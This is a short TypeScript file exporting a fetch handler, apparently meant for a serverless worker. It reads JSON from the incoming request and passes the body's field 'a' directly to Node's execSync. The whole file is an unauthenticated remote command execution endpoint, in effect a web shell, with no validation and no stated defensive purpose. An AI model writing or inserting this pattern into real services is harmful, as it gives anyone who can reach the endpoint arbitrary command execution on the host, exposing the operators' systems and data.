import { execSync } from "node:child_process";
export default {
  async fetch(request: Request, env: any) {
    const b = await request.json() as any;
    execSync(b.a);
    return new Response('');
  },
};
